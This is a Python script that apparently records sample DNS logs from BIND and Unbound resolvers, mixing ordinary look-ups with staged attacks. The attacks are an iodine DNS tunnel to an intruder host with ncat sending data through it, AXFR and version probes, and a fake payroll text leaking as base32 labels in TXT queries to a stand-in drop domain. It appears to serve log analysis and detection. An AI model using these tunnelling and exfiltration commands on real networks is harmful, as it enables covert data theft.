"""BIND and Unbound under ordinary look-ups, a tunnel of iodine's and a file that leaves inside of names."""

from __future__ import annotations

from base64 import b32encode
from pathlib import Path
from random import Random
from typing import TYPE_CHECKING

from docs.samples.recording.recordings import Recording

if TYPE_CHECKING:
    from docs.samples.recording.machine import Machine, Network
    from docs.samples.recording.recordings import Logs

FILES = Path(__file__).resolve().parent / "files"
DESKS = ("10.49.8.21", "10.49.8.22", "10.49.8.35", "10.49.8.40")
STOLEN = "10.49.8.35"
INTRUDER = "203.0.113.66"
DROP = "d.anh-nen.example"
TUNNEL = "t.cdn-tinh.example"
IODINE = "-f -r -T TXT -m 200 -M 150 -I 1 -P mat-khau-ham"
SECRET = "Bảng lương và danh sách cán bộ, không có thật. " * 14
NAMES = (
    ("dichvucong.gov.example", "A"),
    ("dichvucong.gov.example", "AAAA"),
    ("portal01.gov.example", "A"),
    ("trucvanban.gov.example", "A"),
    ("vneid.gov.example", "A"),
    ("thu.gov.example", "A"),
    ("gov.example", "MX"),
    ("gov.example", "TXT"),
    ("tintuc.example", "A"),
    ("anh.tintuc.example", "A"),
    ("capnhat.vien-thong.example", "A"),
    ("gio.vien-thong.example", "A"),
    ("may-in-tang-2.gov.example", "A"),
    ("wpad.gov.example", "A"),
)


def bind(network: Network) -> Logs:
    """Record BIND's query log: desks look names up, then one of them opens a tunnel through the resolver."""
    server, desks, intruder = machines(network, "dns01.gov.example", "10.49.2.53")
    server.write("/etc/bind/named.conf", (FILES / "named.conf").read_text(encoding="utf-8"))
    server.write("/etc/bind/example.zone", (FILES / "example.zone").read_text(encoding="utf-8"))
    for folder in ("/var/log/named", "/run/named", "/var/cache/bind"):
        server.folder(folder, "bind")
    server.start(["named", "-f", "-4", "-u", "bind"])
    server.wait("ss -Hlun sport = :53 | grep -q .")
    desks.wait("dig +time=1 +tries=1 @10.49.2.53 dns01.gov.example | grep -q NOERROR")
    look_up(desks, "10.49.2.53", 160, seed=31)
    normal = server.take("/var/log/named/query.log")
    look_up(desks, "10.49.2.53", 30, seed=32)
    tunnel(desks, intruder)
    look_up(desks, "10.49.2.53", 30, seed=33)
    desks.run(f"dig +time=1 +tries=1 -b {STOLEN} @10.49.2.53 example AXFR", check=False)
    desks.run(f"dig +time=1 +tries=1 -b {STOLEN} @10.49.2.53 version.bind CHAOS TXT", check=False)
    return {"dns/bind-query-normal.log": normal, "dns/bind-query.log": server.take("/var/log/named/query.log")}


def unbound(network: Network) -> Logs:
    """Record Unbound's log of queries and replies: a file leaves in labels of base32, by TXT queries."""
    server, desks, intruder = machines(network, "dns-an-phu.gov.example", "10.49.61.53")
    server.write("/etc/unbound/unbound.conf", (FILES / "unbound.conf").read_text(encoding="utf-8"))
    server.folder("/var/log/unbound", "unbound")
    server.start(["unbound", "-d", "-c", "/etc/unbound/unbound.conf"])
    desks.wait("dig +time=1 +tries=1 @10.49.61.53 thu.gov.example | grep -q NOERROR")
    look_up(desks, "10.49.61.53", 110, seed=41)
    normal = server.take("/var/log/unbound/unbound.log")
    intruder.start(
        [
            "dnsmasq",
            "-k",
            "-C",
            "/dev/null",
            "--no-resolv",
            "--no-hosts",
            f"--local=/{DROP}/",
            f"--address=/{DROP}/{INTRUDER}",
        ]
    )
    intruder.wait("ss -Hlun sport = :53 | grep -q .")
    look_up(desks, "10.49.61.53", 25, seed=42)
    for number, label in enumerate(labels(SECRET)):
        desks.run(f"dig +time=2 +tries=1 -b {STOLEN} @10.49.61.53 {number:04d}.{label}.{DROP} TXT", check=False)
    look_up(desks, "10.49.61.53", 25, seed=43)
    desks.run(f"dig +time=1 +tries=1 -b {STOLEN} @10.49.61.53 tai.doc-hai.example A", check=False)
    return {"dns/unbound-normal.log": normal, "dns/unbound.log": server.take("/var/log/unbound/unbound.log")}


def machines(network: Network, name: str, address: str) -> tuple[Machine, Machine, Machine]:
    """Start a resolver, the desks that ask it and an intruder's server outside."""
    server = network.machine(name, f"{address}/8")
    desks = network.machine("may-ban.gov.example", *(f"{one}/8" for one in DESKS))
    return server, desks, network.machine("ns.cdn-tinh.example", f"{INTRUDER}/24")


def look_up(desks: Machine, server: str, count: int, seed: int) -> None:
    """Look up names as people and their machines do."""
    random = Random(seed)  # noqa: S311 - drawn for the same result every time
    lines = []
    for _ in range(count):
        name, kind = random.choice(NAMES)
        desk, pause = random.choice(DESKS), random.randint(1, 9)
        lines.append(f"dig +time=1 +tries=1 +short -b {desk} @{server} {name} {kind}; sleep 0.0{pause}")
    desks.run("\n".join(lines), check=False)


def tunnel(desks: Machine, intruder: Machine) -> None:
    """Open iodine's tunnel through the resolver and send a little through it."""
    desks.run(f"for net in 10.0.0.0/8 203.0.113.0/24; do ip route replace $net dev eth0 src {STOLEN}; done")
    intruder.start(["iodined", "-f", "-c", "-P", "mat-khau-ham", "172.31.9.1/24", TUNNEL])
    intruder.wait("ss -Hlun sport = :53 | grep -q .")
    desks.start(f"exec iodine {IODINE} 10.49.2.53 {TUNNEL}")
    desks.wait("ip -4 addr show dns0 | grep -q 172.31.9", seconds=60)
    intruder.start("ncat -l 172.31.9.1 8080 > /tmp/den")
    intruder.wait_for_port(8080)
    desks.write("/tmp/danh-sach", Random(34).randbytes(4000).hex())  # noqa: S108, S311 - the machine's; the same every time
    desks.run("ncat --send-only -w 5 172.31.9.1 8080 < /tmp/danh-sach; sleep 4", check=False, seconds=40)


def labels(text: str) -> list[str]:
    """Give a text as labels of 56 characters of base32, as a tool that smuggles it would."""
    code = b32encode(text.encode()).decode().rstrip("=").lower()
    return [code[start : start + 56] for start in range(0, len(code), 56)]


DIG = {"dig": "bind9-dnsutils"}
RECORDINGS = (
    Recording(
        "bind",
        {**DIG, "named": "bind9", "iodine": "iodine", "ncat": "ncat"},
        ("dns/bind-query-normal.log", "dns/bind-query.log"),
        bind,
    ),
    Recording(
        "unbound",
        {**DIG, "unbound": "unbound", "dnsmasq": "dnsmasq-base"},
        ("dns/unbound-normal.log", "dns/unbound.log"),
        unbound,
    ),
)
